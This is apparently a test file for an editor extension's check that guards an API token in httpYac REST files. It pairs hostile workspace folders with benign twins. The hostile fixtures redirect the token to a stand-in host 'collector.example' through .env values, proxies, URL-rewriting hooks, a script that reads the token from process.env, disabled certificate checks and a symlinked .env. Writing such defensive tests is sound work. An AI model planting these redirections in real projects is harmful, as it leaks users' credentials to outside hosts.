// The shapes of issue 41's review, each beside its twin on the service (a table, on real folders): the hostile
// one asks before Insert writes the token and keeps the warning on Send; the twin inserts with no question and
// is not warned. The folder is read as the extension reads it (system/folderEnvironments.ts), the file by
// the allow-list (core/restFile/requestShape.ts), the variables by httpYac's scope. Issue 50's shapes are sent
// by httpYac's engine too, to loopback stand-ins for the service and another site.
import * as assert from 'node:assert/strict';
import * as https from 'node:https';
import type { AddressInfo } from 'node:net';
import * as httpyac from 'httpyac';
import { countingServer, type CountingServer } from '../support/countingServer';
import { makeTestCa } from '../support/testCa';
import { sampleText } from '../../src/core/platform/sample';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { withEnvironments } from '../../src/core/restFile/environments';
import { findJwts } from '../../src/core/restFile/jwtScan';
import { isSameSite, requestDestinations, requestTarget, targetHosts, variableReadings } from '../../src/core/restFile/requestHost';
import { parseRestFile } from '../../src/core/restFile/requestParser';
import { globalNames, outsideAllowList } from '../../src/core/restFile/requestShape';
import { foreignSends, requestsReached } from '../../src/core/restFile/tokenReach';
import { readFolderEnvironments } from '../../src/system/folderEnvironments';
import { CORPUS, corpusFiles } from './corpus';

const SERVICE = 'https://user.telematicssdk.com';
const TOKEN = `${Buffer.from('{"alg":"HS256"}').toString('base64url')}.${Buffer.from('{"sub":"u","exp":4102444800}').toString('base64url')}.c2ln`;
const ACCOUNT = { accountId: 'user', accessToken: TOKEN, expiresAt: 4102444800000, serviceUrl: SERVICE };
const READ = 'Authorization: Bearer {{$processEnv TELEMATICS_TOKEN}}';

interface Folder {
	/** Files by path under the workspace folder; `=> target` makes a link. */
	files: Record<string, string>;
	/** Files in the folder that holds the workspace folder (httpYac looks up to the filesystem's root). */
	above?: Record<string, string>;
	/** The REST file's path under the workspace folder. */
	at?: string;
	/** Its text. */
	text: string;
}

/** Lays `folder` out in a temporary folder (the workspace folder is its `ws`), runs `use`, and removes it. */
async function laidOut<T>(folder: Folder, use: (paths: { root: string; httpFile: string }) => Promise<T>): Promise<T> {
	const base = fs.mkdtempSync(path.join(os.tmpdir(), 'shapes-'));
	const root = path.join(base, 'ws');
	try {
		for (const [name, content] of [...Object.entries(folder.files).map(([n, c]) => [path.join(root, n), c] as const), ...Object.entries(folder.above ?? {}).map(([n, c]) => [path.join(base, n), c] as const)]) {
			fs.mkdirSync(path.dirname(name), { recursive: true });
			if (content.startsWith('=> ')) fs.symlinkSync(content.slice(3), name);
			else fs.writeFileSync(name, content);
		}
		const httpFile = path.join(root, folder.at ?? 'requests.http');
		fs.mkdirSync(path.dirname(httpFile), { recursive: true });
		fs.writeFileSync(httpFile, folder.text);
		return await use({ root, httpFile });
	} finally {
		fs.rmSync(base, { recursive: true, force: true });
	}
}

/** What Insert (header style, cursor on the first request) and the warnings would do with `folder`. */
async function judge(folder: Folder, service = SERVICE): Promise<{ asks: boolean; warns: boolean }> {
	return laidOut(folder, ({ root, httpFile }) => judgeAt(folder.text, httpFile, root, service));
}

async function judgeAt(text: string, httpFile: string, root: string, service: string): Promise<{ asks: boolean; warns: boolean }> {
	const { environments, outside } = await readFolderEnvironments(httpFile, root);
	const file = parseRestFile(text);
	const variables = withEnvironments(variableReadings(file), environments, globalNames(file));
	const destinations = requestDestinations(file, requestsReached(file, { requests: [file.requests[0]!] }), variables, outside);
	let asks = destinations.length === 0;
	for (const { host } of destinations) asks = asks || host === undefined || !(await isSameSite(host, service));
	const sends = await foreignSends(text, [{ ...ACCOUNT, serviceUrl: service }], [{ name: 'TELEMATICS_TOKEN', accountId: 'user' }], { file, jwts: findJwts(text, file), variables, ...(outside !== undefined && { outside }) });
	return { asks, warns: sends.length > 0 };
}

const request = (target: string, ...before: string[]) => [...before, `GET ${target}`, READ, ''].join('\n');
const many = (count: number, size: number) => Object.fromEntries(Array.from({ length: count }, (_, i) => [`.env.e${i}`, Array.from({ length: size }, (_, j) => `v${j}=https://h${j}.example`).join('\n')]));

/** Each row: the shape, the hostile folder, its twin on the service. */
const rows: Array<[string, Folder, Folder]> = [
	['variable scope: a definition in request 2 does not hide the .env value request 1 uses',
		{ files: { '.env': 'host=https://collector.example\n' }, text: `${request('{{host}}/v1/a')}\n###\n@host = ${SERVICE}\n${request('{{host}}/v1/b')}` },
		{ files: { '.env': `host=${SERVICE}\n` }, text: `${request('{{host}}/v1/a')}\n###\n@host = ${SERVICE}\n${request('{{host}}/v1/b')}` }],
	['.env: dotenv\'s KEY: value form, the last one winning',
		{ files: { '.env': `host=${SERVICE}\nhost: https://collector.example\n` }, text: request('{{host}}/v1') },
		{ files: { '.env': `host=${SERVICE}\nhost: ${SERVICE}\n` }, text: request('{{host}}/v1') }],
	['.env: a quote that never closes does not hide the other lines',
		{ files: { '.env': `x="open\nhost=https://collector.example\n` }, text: request('{{host}}/v1') },
		{ files: { '.env': `x="open\nhost=${SERVICE}\n` }, text: request('{{host}}/v1') }],
	['.env: quotes and export',
		{ files: { '.env': 'export host=\'https://collector.example\'\n' }, text: request('{{host}}/v1') },
		{ files: { '.env': `export host='${SERVICE}'\n` }, text: request('{{host}}/v1') }],
	['an env/ folder beside a folder on the way (httpYac reads it over the folder\'s .env)',
		{ files: { '.env': `host=${SERVICE}\n`, 'api/env/.env': 'host=https://collector.example\n' }, at: 'api/requests.http', text: request('{{host}}/v1') },
		{ files: { '.env': `host=${SERVICE}\n`, 'api/env/.env': `host=${SERVICE}\n` }, at: 'api/requests.http', text: request('{{host}}/v1') }],
	['a nested .httpyac.json with envDirName',
		{ files: { 'api/.httpyac.json': '{"envDirName": "../secrets"}' }, at: 'api/requests.http', text: request(`${SERVICE}/v1`) },
		{ files: { 'api/.httpyac.json': `{"environments": {"prod": {"host": "${SERVICE}"}}}` }, at: 'api/requests.http', text: request('{{host}}/v1') }],
	['a .httpyac.json with a proxy',
		{ files: { '.httpyac.json': '{"proxy": "http://collector.example:3128"}' }, text: request(`${SERVICE}/v1`) },
		{ files: { '.httpyac.json': '{"log": {"level": 1}}' }, text: request(`${SERVICE}/v1`) }],
	['an httpYac configuration that is code',
		{ files: { 'httpyac.config.js': 'module.exports = {};' }, text: request(`${SERVICE}/v1`) },
		{ files: { 'config.js': 'module.exports = {};' }, text: request(`${SERVICE}/v1`) }],
	['a nested package.json with an httpyac section',
		{ files: { 'api/package.json': '{"httpyac": {"envDirName": "x"}}' }, at: 'api/requests.http', text: request(`${SERVICE}/v1`) },
		{ files: { 'api/package.json': '{"name": "api"}' }, at: 'api/requests.http', text: request(`${SERVICE}/v1`) }],
	['a package.json with an httpYac plugin',
		{ files: { 'package.json': '{"devDependencies": {"httpyac-plugin-evil": "1"}}' }, text: request(`${SERVICE}/v1`) },
		{ files: { 'package.json': '{"devDependencies": {"httpyac": "6"}}' }, text: request(`${SERVICE}/v1`) }],
	['an environment file that is a link',
		{ files: { '.env': '=> /etc/hostname' }, text: request(`${SERVICE}/v1`) },
		{ files: { '.env': 'other=1\n' }, text: request(`${SERVICE}/v1`) }],
	['a request option in an environment (request_proxy)',
		{ files: { '.env': 'request_proxy=http://collector.example:3128\n' }, text: request(`${SERVICE}/v1`) },
		{ files: { '.env': 'proxy_note=http://collector.example:3128\n' }, text: request(`${SERVICE}/v1`) }],
	['a request option in the file (@request_rejectUnauthorized)',
		{ files: {}, text: request(`${SERVICE}/v1`, '@request_rejectUnauthorized = false') },
		{ files: {}, text: request(`${SERVICE}/v1`, '@requestId = 7') }],
	['# @import',
		{ files: { 'other.http': `@host = https://collector.example\n` }, text: request('{{host}}/v1', '# @import ./other.http', `@host = ${SERVICE}`) },
		{ files: { 'other.http': `@host = https://collector.example\n` }, text: request('{{host}}/v1', `@host = ${SERVICE}`) }],
	['a global script block that sets the host',
		{ files: {}, text: `{{\n  exports.host = 'https://collector.example';\n}}\n\n###\n${request('{{host}}/v1')}` },
		{ files: {}, text: `@host = ${SERVICE}\n\n###\n${request('{{host}}/v1')}` }],
	['# @proxy and # @noRejectUnauthorized on a request to the service',
		{ files: {}, text: request(`${SERVICE}/v1`, '# @proxy http://collector.example:3128', '# @noRejectUnauthorized') },
		{ files: {}, text: request(`${SERVICE}/v1`, '# @name trips', '# @note check the trips', '# @no-log') }],
	['a request hook that rewrites the URL',
		{ files: {}, text: `{{@request\n  request.url = 'https://collector.example/';\n}}\n\n###\n${request(`${SERVICE}/v1`)}` },
		{ files: {}, text: `# setup\n\n###\n${request(`${SERVICE}/v1`)}` }],
	['a global script builds the header from process.env and spreads it into a request',
		{ files: {}, text: `{{\n  exports.auth = { Authorization: 'Bearer ' + process.env['TELEMATICS' + '_TOKEN'] };\n}}\n\n###\nGET https://collector.example/v1\n...auth\n` },
		{ files: {}, text: `###\n${request(`${SERVICE}/v1`)}` }],
	['a `...name` line: among the headers httpYac spreads a variable there; in the body it is text (a GraphQL fragment spread)',
		{ files: {}, text: `POST ${SERVICE}/graphql\n${READ}\n...Parts\n\nquery { trips { id } }\n` },
		{ files: {}, text: `POST ${SERVICE}/graphql\n${READ}\n\nquery { trips {\n  ...Parts\n} }\n` }],
	['metadata no client is known to leave harmless',
		{ files: {}, text: request(`${SERVICE}/v1`, '# @loop for 2') },
		{ files: {}, text: request(`${SERVICE}/v1`, '# @timeout 5000') }],
	['an expression in the target',
		{ files: {}, text: request("{{ 'https://' + 'collector.example' }}/v1") },
		{ files: {}, text: request(`${SERVICE}/v1/{{$guid}}`) }],
	['http on another port of the service\'s host',
		{ files: {}, text: request('http://user.telematicssdk.com:8080/v1') },
		{ files: {}, text: request('https://user.telematicssdk.com/v1') }],
	['http to any host of the service\'s site',
		{ files: {}, text: request('http://api.telematicssdk.com/v1') },
		{ files: {}, text: request('https://api.telematicssdk.com/v1') }],
	['https on another port of the site',
		{ files: {}, text: request('https://api.telematicssdk.com:8443/v1') },
		{ files: {}, text: request('https://api.telematicssdk.com:443/v1') }],
	['a definition a client reads another way (httpYac: @host value, no =)',
		{ files: {}, text: request('{{host}}/v1', `@host = ${SERVICE}`, '@host https://collector.example') },
		{ files: {}, text: request('{{host}}/v1', `@host = ${SERVICE}`) }],
	['cost: 64 env files near their bound say nothing past the cap',
		{ files: many(64, 512), at: 'requests.http', text: request(`${SERVICE}/v1`) },
		{ files: many(2, 16), at: 'requests.http', text: request(`${SERVICE}/v1`) }],
	['the 65th environment of an env file, past what the check reads, sends elsewhere',
		{ files: { 'http-client.env.json': JSON.stringify(Object.fromEntries(Array.from({ length: 65 }, (_, i) => [`e${i}`, { host: i === 64 ? 'https://collector.example' : SERVICE }]))) }, text: request('{{host}}/v1') },
		{ files: { 'http-client.env.json': JSON.stringify(Object.fromEntries(Array.from({ length: 64 }, (_, i) => [`e${i}`, { host: SERVICE }]))) }, text: request('{{host}}/v1') }],
	['the 513th variable of a .env, past what the check reads, is a proxy',
		{ files: { '.env': [`host=${SERVICE}`, ...Array.from({ length: 511 }, (_, i) => `v${i}=x`), 'request_proxy=http://collector.example:3128'].join('\n') }, text: request('{{host}}/v1') },
		{ files: { '.env': [`host=${SERVICE}`, ...Array.from({ length: 511 }, (_, i) => `v${i}=x`)].join('\n') }, text: request('{{host}}/v1') }],
	['a file deeper below the workspace folder than the check looks',
		{ files: {}, at: 'a/b/c/d/e/f/g/h/i/requests.http', text: request(`${SERVICE}/v1`) },
		{ files: {}, at: 'a/b/c/d/e/f/g/requests.http', text: request(`${SERVICE}/v1`) }],
];

describe('the shapes of the review and their twins on the service (issue 41)', function () {
	this.timeout(60_000);
	for (const [name, hostile, twin] of rows) {
		it(`${name}: the hostile folder asks and warns`, async () => assert.deepEqual(await judge(hostile), { asks: true, warns: true }));
		it(`${name}: its twin inserts with no question and no warning`, async () => assert.deepEqual(await judge(twin), { asks: false, warns: false }));
	}
});

/**
 * The shapes of issue 50's review, built from the service's origin and another site's, so the same folder is
 * judged against the service here and sent by httpYac to loopback stand-ins of both below. `proof`: how httpYac
 * shows it (`http`: the hostile folder reaches the other site, the twin only the service; `tls`: below).
 */
function review50(svc: string, other: string): Array<[string, Folder, Folder, 'http' | 'tls']> {
	const { protocol, host } = new URL(svc);
	const otherHost = new URL(other).host;
	const scoped = (target: string, definition: string) => `${request(`${target}/v1/a`)}\n###\n${definition}\n${request(`${target}/v1/b`)}`;
	const prefixed = `${protocol}//{{prefix}}${host}/v1`;
	return [
		['an object in an environment: httpYac fills {{svc.url}} from it, whatever string another environment gives "svc.url"',
			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { svc: { url: other } }, prod: { 'svc.url': svc } } }) }, text: request('{{svc.url}}/v1') },
			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { svcUrl: svc }, prod: { svcUrl: svc } } }) }, text: request('{{svcUrl}}/v1') }, 'http'],
		['an object in an environment, under a dotted name another request\'s region defines',
			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { svc: { url: other } } } }) }, text: scoped('{{svc.url}}', `@svc.url = ${svc}`) },
			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { svcUrl: svc } } }) }, text: scoped('{{svcUrl}}', `@svcUrl = ${svc}`) }, 'http'],
		['a configuration above the workspace folder: a proxy in the .httpyac.json of the folder that holds it',
			{ files: {}, above: { '.httpyac.json': JSON.stringify({ proxy: other }) }, text: request(`${svc}/v1`) },
			{ files: {}, above: { '.httpyac.json': JSON.stringify({ environments: { $shared: { note: 'x' } } }) }, text: request(`${svc}/v1`) }, 'http'],
		['a package.json above the workspace folder makes that folder httpYac\'s root: its .env fills a name the file scopes to another request',
			{ files: {}, above: { 'package.json': '{"name": "mono"}', '.env': `host=${other}\n` }, text: scoped('{{host}}', `@host = ${svc}`) },
			{ files: {}, above: { 'package.json': '{"name": "mono"}', '.env': `host=${svc}\n` }, text: scoped('{{host}}', `@host = ${svc}`) }, 'http'],
		['an indented separator with a title names its region: its definitions are not global',
			{ files: { '.env': `host=${other}\n` }, text: `  ### setup\n@host = ${svc}\n\n###\n${request('{{host}}/v1')}` },
			{ files: { '.env': `host=${other}\n` }, text: `###\n@host = ${svc}\n\n###\n${request('{{host}}/v1')}` }, 'http'],
		['an empty definition defines nothing in httpYac: the environment\'s value stands',
			{ files: { '.env': `prefix=${otherHost}/\n` }, text: `@prefix =\n\n###\n${request(prefixed)}` },
			{ files: { '.env': 'prefix=\n' }, text: `@prefix =\n\n###\n${request(prefixed)}` }, 'http'],
		['a request option whose value is null (httpYac turns the certificate check off)',
			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { request_rejectUnauthorized: null } } }) }, text: request(`${svc}/v1`) },
			{ files: { '.httpyac.json': JSON.stringify({ environments: { $shared: { requestId: null } } }) }, text: request(`${svc}/v1`) }, 'tls'],
	];
}

describe('the shapes of issue 50\'s review and their twins on the service', function () {
	this.timeout(60_000);
	for (const [name, hostile, twin] of review50(SERVICE, 'https://collector.example')) {
		it(`${name}: the hostile folder asks and warns`, async () => assert.deepEqual(await judge(hostile), { asks: true, warns: true }));
		it(`${name}: its twin inserts with no question and no warning`, async () => assert.deepEqual(await judge(twin), { asks: false, warns: false }));
	}

	it('an indented separator after a body ends the request: the next request, which reads the token, is another, and the warning names its site', async () => {
		const text = `POST ${SERVICE}/v1\n${READ}\n\n{"a": 1}\n\t###\nGET https://collector.example/v1\n${READ}\n`;
		assert.deepEqual(await judge({ files: {}, text }), { asks: false, warns: true });
		assert.deepEqual(await judge({ files: {}, text: text.replace('collector.example', 'api.telematicssdk.com') }), { asks: false, warns: false });
	});
});

describe('the folders above the workspace folder, up to the filesystem\'s root (issue 50)', () => {
	const read = (folder: Folder, root?: 'none') => laidOut(folder, ({ root: ws, httpFile }) => readFolderEnvironments(httpFile, root === 'none' ? undefined : ws));

	it('an env file there is read like one inside; a configuration that is code, or a link, makes the file not say', async () => {
		const env = await read({ files: {}, above: { '.env': 'host=https://collector.example\n', 'env/.env': 'api=https://api.example\n' }, text: '' });
		assert.deepEqual([env.outside, [...env.environments.keys()].sort()], [undefined, ['api', 'host']]);
		assert.equal((await read({ files: {}, above: { 'httpyac.config.js': 'module.exports = {};' }, text: '' })).outside, 'an httpYac configuration (httpyac.config.js)');
		assert.equal((await read({ files: {}, above: { 'package.json': '{"httpyac": {}}' }, text: '' })).outside, 'an httpyac section in package.json');
		assert.match((await read({ files: {}, above: { '.env': '=> /etc/hostname' }, text: '' })).outside ?? '', /^\.env, which the check does not read/);
	});

	it('a file in no workspace folder: its folder and every one above it', async () => {
		const env = await read({ files: { '.env': 'a=1\n' }, above: { '.env': 'host=https://collector.example\n' }, at: 'sub/requests.http', text: '' }, 'none');
		assert.deepEqual([env.outside, [...env.environments.keys()].sort()], [undefined, ['a', 'host']]);
	});
});

describe('the shapes of issue 50, sent by httpYac to loopback stand-ins for the service and another site', function () {
	this.timeout(120_000);
	let service: CountingServer;
	let other: CountingServer;
	let logLevel: httpyac.LogLevel | undefined;
	const info = console.info;

	before(async () => {
		httpyac.cli.initFileProvider();
		await httpyac.cli.initIOProvider();
		logLevel = httpyac.io.log.options.level;
		httpyac.io.log.options.level = httpyac.LogLevel.none;
		console.info = () => undefined;
		service = await countingServer('127.0.0.1');
		other = await countingServer('127.0.0.2', service.port);
	});
	after(async () => {
		console.info = info;
		httpyac.io.log.options.level = logLevel;
		await Promise.all([service.close(), other.close()]);
	});

	/** Sends the request Insert writes into (the file's first), as a person sends it from the editor, with httpYac. */
	async function send(text: string, httpFile: string, root: string): Promise<void> {
		const line = parseRestFile(text).requests[0]!.requestLine;
		const file = await new httpyac.store.HttpFileStore().getOrCreate(httpFile, async () => text, 0, { workingDir: root });
		const httpRegion = file.httpRegions.find((r) => r.request && r.symbol.startLine <= line && line <= r.symbol.endLine);
		assert.ok(httpRegion, 'httpYac reads the request where the check does');
		try {
			await httpyac.send({ httpFile: file, httpRegion, logResponse: async () => undefined, config: { request: { timeout: 2_000 } } } as never);
		} catch {
			// a request httpYac cannot send reached nobody
		} finally {
			await httpyac.store.userSessionStore.reset();
		}
	}

	for (const row of review50('http://127.0.0.1:1', 'http://127.0.0.2:1')) {
		if (row[3] !== 'http') continue;
		it(`${row[0]}: the check asks where httpYac reaches the other site, and not where it reaches the service only`, async () => {
			const [, hostile, twin] = review50(`http://127.0.0.1:${service.port}`, `http://127.0.0.2:${other.port}`).find(([name]) => name === row[0])!;
			for (const [folder, expected] of [[hostile, true], [twin, false]] as const) {
				await laidOut(folder, async ({ root, httpFile }) => {
					assert.deepEqual(await judgeAt(folder.text, httpFile, root, `http://127.0.0.1:${service.port}`), { asks: expected, warns: expected });
					const before = { service: service.hits(), other: other.hits() };
					await send(folder.text, httpFile, root);
					assert.equal(other.hits() > before.other, expected, expected ? 'httpYac reached the other site' : 'httpYac reached no other site');
					if (!expected) assert.ok(service.hits() > before.service, 'httpYac reached the service');
				});
			}
		});
	}

	it('a request option whose value is null: httpYac sends to a server its certificate check would refuse, and the check asks', async () => {
		const ca = makeTestCa(fs.mkdtempSync(path.join(os.tmpdir(), 'shapes-ca-')));
		let hits = 0;
		const server = https.createServer({ key: ca.key, cert: ca.cert }, (_req, res) => {
			hits++;
			res.writeHead(204).end();
		});
		await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
		const svc = `https://127.0.0.1:${(server.address() as AddressInfo).port}`;
		try {
			const [, hostile, twin] = review50(svc, 'https://127.0.0.2:1').find(([, , , proof]) => proof === 'tls')!;
			for (const [folder, expected] of [[hostile, true], [twin, false]] as const) {
				await laidOut(folder, async ({ root, httpFile }) => {
					assert.deepEqual(await judgeAt(folder.text, httpFile, root, svc), { asks: expected, warns: expected });
					const before = hits;
					await send(folder.text, httpFile, root);
					assert.equal(hits > before, expected, expected ? 'httpYac sent with its certificate check off' : 'httpYac refused the certificate');
				});
			}
		} finally {
			await new Promise<void>((resolve) => server.close(() => resolve()));
			fs.rmSync(ca.dir, { recursive: true, force: true });
		}
	});
});

describe('ordinary files get no new question (issue 41)', () => {
	it('the README\'s example of two accounts in one file', async () => {
		const text = '### my trips, as the user\nGET https://user.telematicssdk.com/v1/...\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN_USER}}\n\n### the instance\'s statistics, as the admin\nGET https://user.telematicssdk.com/v1/...\nAuthorization: Bearer {{$processEnv TELEMATICS_TOKEN_ADMIN}}\n';
		assert.deepEqual(await judge({ files: {}, text }), { asks: false, warns: false });
	});

	it('the walkthrough\'s sample (features/walkthrough/demo.ts, sampleText), on the service and on the demo service over loopback', async () => {
		const sample = (url: string, api: string) => sampleText(url, api);
		assert.deepEqual(await judge({ files: {}, text: sample(SERVICE, 'https://api.telematicssdk.com') }), { asks: false, warns: false });
		assert.deepEqual(await judge({ files: { '.env': 'OTHER=1\n' }, text: sample('http://127.0.0.1:4000', 'http://127.0.0.1:4000') }, 'http://127.0.0.1:4000'), { asks: false, warns: false });
	});

	/**
	 * Every real file the allow-list leaves out, by why (SECURITY.md, "Why some real files ask"), with the
	 * first line outside it. Each asks because of what it holds, not because of how the check reads it.
	 */
	const OUTSIDE: Record<string, Record<string, string>> = {
		'a response handler (`> {% %}`, `> ./handler.js`): httpYac keeps what it sets (`client.global.set`) for every later request, a proxy too, and it runs with the exposed token in process.env': {
			'321CQU__API_Gateway__http_request__edu_admin_center.http': 'line 12: a script',
			'AYeropudov__epic-auth__rest-api-test.http': 'line 24: a script',
			'AnWeber__httpyac__examples__intellij__intellij.http': 'line 35: a script',
			'AnWeber__vscode-httpyac__examples__intellij.http': 'line 16: a script',
			'Bloody-Badboy__ktor-jwt-auth-demo__requests.http': 'line 20: a script',
			'Cepr0__sb-auth-resource-demo__api-demo.http': 'line 8: a script',
			'DependencyTrack__hyades-apiserver__requests.http': 'line 17: a script',
			'Qbaaa__SecureAuth__auth.http': 'line 13: a script',
			'Researcher86__hyperf-microservices-ticketing__rest.http': 'line 8: a script',
			'httpyac__httpyac.github.io__examples__script__intellij.http': 'line 7: a script',
			'mistweaverco__kulala.nvim__docs__static__import__demos__5.script.http': 'line 13: a script',
			'mistweaverco__kulala.nvim__lua__tree-sitter__snapshots__test.http': 'line 166: a script',
			'spirylics__kouign__src__test__resources__fr__spirylics__kouign__kouign.http': 'line 99: a script',
		},
		'a pre-request script (`< {% %}`): it runs before the request and may change it': {
			'httpyac__httpyac.github.io__examples__intellij__prerequestscript.http': 'line 1: a script',
			'httpyac__httpyac.github.io__examples__script__intellij_hash.http': 'line 1: a script',
			'httpyac__httpyac.github.io__examples__script__intellij_prerequest.http': 'line 1: a script',
			'mistweaverco__kulala.nvim__docs__static__demos__5.script.http': 'line 3: a script',
			'mistweaverco__kulala.nvim__tests__functional__fixtures__export__export_1.http': 'line 4: a script',
			'mistweaverco__kulala.nvim__tests__functional__requests__advanced_D.http': 'line 1: a script',
		},
		'an httpYac script block (`{{ … }}`, `{{@streaming`, `{{+`, `{{#`): JavaScript with `require` and process.env, run before requests': {
			'AnWeber__httpyac__examples__auth__basic.http': 'line 10: a script',
			'AnWeber__httpyac__examples__auth__basicAuth.http': 'line 10: a script',
			'AnWeber__vscode-httpyac__examples__auth.http': 'line 2: a script',
			'AnWeber__vscode-httpyac__examples__basicAuth.http': 'line 1: a script',
			'AnWeber__vscode-httpyac__examples__extendable.http': 'line 1: a script',
			'httpyac__httpyac.github.io__examples__project__httpyacConfig__test.http': 'line 10: a script',
			'httpyac__httpyac.github.io__examples__project__tests__jwtToken.http': 'line 1: a script',
			'httpyac__httpyac.github.io__examples__request__headersSpread.http': 'line 1: a script',
			'httpyac__httpyac.github.io__examples__request__websocket__websocket.http': 'line 7: a script',
		},
		'a body file with variables (`<@ ./file`): httpYac runs the `{{…}}` in a file the check does not read': {
			'httpyac__httpyac.github.io__examples__project__formats__multipartFormData.http': 'line 26: a script',
		},
		'a gRPC `proto <` import: another protocol and a file the check does not read': {
			'httpyac__httpyac.github.io__examples__request__grpc__grpcBidirectionalWithSeparator.http': 'line 1: a script',
		},
		'`# @import`: another file\'s definitions and scripts': {
			'AnWeber__vscode-httpyac__examples__oauth_import.http': 'line 5: metadata @import',
			'httpyac__httpyac.github.io__examples__tests__importTests__b.http': 'line 1: metadata @import',
		},
		'metadata no list of the clients\' harmless keys holds (`#@host=` is no comment to httpYac, `@accessToken`, kulala\'s `@curl-…` flags, rest.nvim\'s `@lang`)': {
			'ArditZubaku__NestJS-Bookmarks-API__request.http': 'line 1: metadata @host',
			'MingLu8__MinimumApi__src__MinimalApi__auth.http': 'line 12: metadata @accessToken',
			'mistweaverco__kulala.nvim__lua__tree-sitter__snapshots__advanced.http': 'line 7: metadata @curl-conect-timeout',
			'mistweaverco__kulala.nvim__tests__functional__fixtures__format.http': 'line 11: metadata @curl-conect-timeout',
			'mistweaverco__kulala.nvim__tests__functional__fixtures__formatted.http': 'line 13: metadata @curl-conect-timeout',
			'rest-nvim__rest.nvim__spec__examples__script__pre_request_script.http': 'line 3: metadata @lang',
		},
		'an expression in `{{…}}` (httpYac runs it as JavaScript; `{{:id}}` is another client\'s prompt)': {
			'httpyac__httpyac.github.io__examples__variables__variablesInBody.http': 'line 2: an expression',
			'ideaspaper__restclient__examples__example.http': 'line 87: an expression',
		},
		'`@xpath_ns name=value`: no REST Client definition (it needs `=` after the name), so the two clients read the request apart': {
			'httpyac__httpyac.github.io__examples__assert__xpath_namespace.http': 'line 1: a definition a client may read another way',
		},
	};

	it('the corpus: a file inside the allow-list is read as before, request by request; the files outside are exactly those listed, for the reason listed', () => {
		const outside: Record<string, string> = {};
		let inside = 0;
		for (const name of corpusFiles()) {
			const file = parseRestFile(fs.readFileSync(path.join(CORPUS, name), 'utf8'));
			const why = outsideAllowList(file);
			if (why) {
				outside[name] = why;
				continue;
			}
			inside++;
			const variables = variableReadings(file);
			for (const request of file.requests) {
				const hostHeader = request.headers.find((h) => h.name.toLowerCase() === 'host')?.value;
				assert.deepEqual(requestDestinations(file, [request], variables).map((d) => d.host), targetHosts(requestTarget(file, request), variables, hostHeader), `${name}:${request.requestLine + 1}`);
			}
		}
		assert.deepEqual(outside, Object.assign({}, ...Object.values(OUTSIDE)));
		assert.equal(inside, corpusFiles().length - Object.keys(outside).length);
	});

	it('the corpus: no file outside the allow-list gets a new question: read as before, none of its requests went to the service\'s site, so Insert asked there already', async () => {
		for (const name of Object.keys(Object.assign({}, ...Object.values(OUTSIDE)))) {
			const file = parseRestFile(fs.readFileSync(path.join(CORPUS, name), 'utf8'));
			const variables = variableReadings(file);
			for (const request of file.requests) {
				const hostHeader = request.headers.find((h) => h.name.toLowerCase() === 'host')?.value;
				for (const host of targetHosts(requestTarget(file, request), variables, hostHeader)) {
					assert.ok(host === undefined || !(await isSameSite(host, SERVICE)), `${name}:${request.requestLine + 1} went to ${host}`);
				}
			}
		}
	});
});
